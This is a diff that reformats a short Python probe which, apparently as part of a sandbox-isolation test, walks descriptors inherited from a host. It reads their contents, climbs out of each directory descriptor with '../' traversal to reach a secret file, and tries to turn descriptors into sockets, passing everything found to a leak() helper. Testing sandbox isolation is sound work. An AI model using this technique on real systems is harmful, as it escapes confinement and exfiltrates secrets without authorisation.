@@ -1,12 +1,15 @@
 # ruff: noqa
 """Descriptors that the host left open: read from the start, sent over, followed to their folders."""
+
 import socket
 
 for one in descriptors()[3:]:
     leak(attempt(os.pread, one, 65536, 0) or b"")
     attempt(lambda: leak(os.read(os.open(f"/proc/self/fd/{one}", os.O_RDONLY | os.O_NONBLOCK), 65536)))
     attempt(lambda: leak(os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=one), 4096)))
-    attempt(lambda: leak(os.read(os.open("../" * 12 + HOST["secret"].lstrip("/"), os.O_RDONLY, dir_fd=one), 4096)))
+    attempt(
+        lambda: leak(os.read(os.open("../" * 12 + HOST["secret"].lstrip("/"), os.O_RDONLY, dir_fd=one), 4096))
+    )
     link = attempt(lambda: socket.socket(fileno=os.dup(one)))
     if link is not None:
         attempt(link.setblocking, False)
